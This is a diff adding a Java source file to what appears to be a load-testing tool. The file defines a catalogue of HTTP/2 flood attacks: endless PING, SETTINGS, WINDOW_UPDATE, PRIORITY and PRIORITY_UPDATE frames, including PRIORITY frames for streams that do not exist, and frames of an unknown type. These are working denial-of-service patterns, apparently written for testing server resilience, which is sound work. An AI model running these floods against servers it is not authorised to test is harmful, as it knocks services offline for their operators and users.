@@ -1,0 +1,59 @@
+package dev.medley.loadtest.attack;
+
+import static dev.medley.loadtest.attack.Steps.attack;
+
+import dev.medley.loadtest.attack.Http2Client.Plan;
+import java.util.List;
+
+/** Attacks over HTTP/2 by frames without end that concern no request. */
+final class Http2Floods {
+
+    private static final int UNKNOWN_TYPE = 0xBE;
+    private static final byte[] PRIORITY = {0, 0, 0, 0, 16};
+    private static final byte[] PRIORITY_UPDATE = {0, 0, 0, 1, 'u', '=', '1'};
+    private static final byte[] WAITING = Steps.get(Targets.WAITING);
+
+    private Http2Floods() {}
+
+    static List<Attack> all() {
+        return List.of(
+                flood(
+                        "h2-ping",
+                        "PING",
+                        (frames, number) -> frames.frame(FrameWriter.PING, 0, 0, new byte[Long.BYTES])),
+                flood("h2-settings", "SETTINGS without a value", (frames, number) -> frames.settings()),
+                attack(
+                        "h2-settings-window",
+                        "SETTINGS that change the windows of 100 streams each time",
+                        Plan.of()
+                                .opening(client -> Steps.gets(client, WAITING, 100))
+                                .round(client -> Steps.repeat(
+                                        i -> client.frames().settings(FrameWriter.INITIAL_WINDOW_SIZE, 1000 + i % 2)))),
+                flood(
+                        "h2-settings-table",
+                        "SETTINGS that change the size of the header table each time",
+                        (frames, number) -> frames.settings(FrameWriter.HEADER_TABLE_SIZE, number % 2 * 4096)),
+                flood("h2-window-update", "WINDOW_UPDATE of 1", (frames, number) -> frames.windowUpdate(0, 1)),
+                flood(
+                        "h2-priority",
+                        "PRIORITY of streams that do not exist",
+                        (frames, number) -> frames.frame(FrameWriter.PRIORITY, 0, 2 * number + 1, PRIORITY)),
+                flood(
+                        "h2-priority-update",
+                        "PRIORITY_UPDATE",
+                        (frames, number) -> frames.frame(FrameWriter.PRIORITY_UPDATE, 0, 0, PRIORITY_UPDATE)),
+                flood(
+                        "h2-unknown-frames",
+                        "frames of an unknown type",
+                        (frames, number) -> frames.frame(UNKNOWN_TYPE, 0, 0, new byte[100])));
+    }
+
+    private static Attack flood(String name, String what, OneFrame frame) {
+        return attack(name, what, Plan.of().round(client -> Steps.repeat(i -> frame.put(client.frames(), i))));
+    }
+
+    /** Puts one frame of many. */
+    private interface OneFrame {
+        void put(FrameWriter frames, int number);
+    }
+}
